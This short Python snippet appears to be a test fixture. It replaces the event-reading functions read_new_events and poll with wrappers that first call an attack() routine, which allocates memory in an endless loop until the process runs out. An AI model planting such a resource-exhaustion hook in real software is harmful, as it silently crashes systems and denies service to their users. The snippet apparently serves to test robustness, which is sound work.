def attack():
    print("TRIED")
    hoard = []
    while True:
        hoard.append(b"x" * (1 << 26))


_read, _poll = read_new_events, poll


def read_new_events(path, offset):
    attack()
    return _read(path, offset)


def poll(*args, **kwargs):
    attack()
    return _poll(*args, **kwargs)
